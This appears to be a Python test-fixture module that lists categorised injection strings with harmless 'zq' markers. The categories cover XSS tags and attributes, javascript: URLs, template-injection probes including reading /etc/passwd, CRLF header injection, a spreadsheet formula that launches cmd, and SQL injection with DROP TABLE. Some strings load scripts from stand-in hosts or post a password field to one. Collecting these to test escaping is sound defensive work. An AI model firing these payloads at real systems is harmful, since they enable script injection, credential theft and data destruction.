"""What somebody might write into a field to make a page do something: our own list, by well-known classes.

Each text carries `zq` and its number where it would show that it got out: as a tag, as an attribute, as the
text of a script, as a line of its own in a calendar file, a mail or a header, or as the product 1337.
"""

from __future__ import annotations

CORPUS = {
    "scripts": (
        "<script>zq1()</script>",
        "</script><script>zq2()</script>",
        "<ScRiPt src=//zq3.example></ScRiPt>",
        "<script>zq4()//",
        "]]><script>zq5()</script>",
        "--><script>zq6()</script><!--",
        "</textarea><script>zq7()</script>",
        "</title><script>zq8()</script>",
        "</style><script>zq9()</script>",
        "<noscript><p title=\"</noscript><script>zq10()</script>\">",
    ),
    "attributes": (
        '" onmouseover="zq11()" x="',
        "' onfocus='zq12()' autofocus x='",
        '" autofocus onfocus=zq13() x=',
        "` onload=`zq14()`",
        '"><b id=zq15>bold</b>',
        "'><b class=zq16>bold</b>",
        'x" style="background:url(//zq17.example)',
        '"/><input formaction=javascript:zq18() type=submit>',
    ),
    "elements": (
        "<img src=x onerror=zq19()>",
        "<svg onload=zq20()>",
        "<svg><animate onbegin=zq21() attributeName=x></svg>",
        "<svg><script>zq22()</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=zq23()>",
        "<iframe srcdoc='<script>zq24()</script>'></iframe>",
        "<details open ontoggle=zq25()>",
        "<style>@import '//zq26.example'</style>",
        "<link rel=stylesheet href=//zq27.example>",
        "<meta http-equiv=refresh content='0;url=//zq28.example'>",
        "<base href=//zq29.example>",
        "<form action=//zq30.example><input name=password>",
        "<zq31 tabindex=1>",
        "<body onpageshow=zq32()>",
    ),
    "addresses": (
        "javascript:zq33()",
        "JaVaScRiPt&colon;zq34()",
        "data:text/html,<script>zq35()</script>",
        "//zq36.example/",
        "vbscript:zq37",
        "java\tscript:zq38()",
    ),
    "templates": (
        "zq39{{191*7}}zq",
        "zq40{% debug %}{% load static %}zq",
        "zq41${191*7}#{191*7}<%= 191*7 %>zq",
        "zq42{0.__class__.__mro__}{at}{whom}%s%(zq)s%n",
        'zq43 #read("/etc/passwd") #(191*7) $191 * 7$ *bold* _slanted_ @zq',
        "zq44 [link](javascript:zq()) ![](x) <!-- zq -->",
    ),
    "encodings": (
        "&lt;script&gt;zq45()&lt;/script&gt;",
        "&#60;script&#62;zq46()&#60;/script&#62;",
        "\\u003cscript\\u003ezq47()\\u003c/script\\u003e",
        "\uff1cscript\uff1ezq48()\uff1c/script\uff1e",
        "%3Cscript%3Ezq49()%3C/script%3E",
        "+ADw-script+AD4-zq50()+ADw-/script+AD4-",
    ),
    "letters": (
        "zq51 \u202egnitirw eht snrut\u202c \u2066isolated\u2069",
        "zq52 \u200b\u200d\ufeff\u00ad nothing to see",
        "zq53 Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357a\u0358\u0359lgo",
        "zq54 \U0001f469\u200d\u2695\ufe0f \U0001f3f4",
        "zq55 \u2028\u2029\u0085 new lines",
        "zq56 \x01\x02\x1b[31m\x7f bells",
    ),
    "lines": (
        "zq57\r\nX-ZQ: 57",
        "zq58\nX-ZQ:58\nEND:VEVENT\nBEGIN:VEVENT",
        "zq59\r\n\r\n<script>zq59()</script>",
        "zq60\\nX-ZQ:60\\;\\,",
        "zq61\rX-ZQ: 61",
    ),
    "formulas": (
        "=HYPERLINK(\"//zq62.example\")",
        "+zq63+cmd|' /C calc'!A0",
        "-2+3+zq64",
        "@SUM(zq65)",
        "\t=zq66",
        "\r=zq67",
    ),
    "queries": ("zq68' OR '1'='1", 'zq69"; DROP TABLE org_person; --', "zq70\\", "zq71%_%"),
    "length": ("zq72" + "W" * 196, "zq73 " + "<b>" * 65),
}  # fmt: skip
EVERY = tuple(text for texts in CORPUS.values() for text in texts)
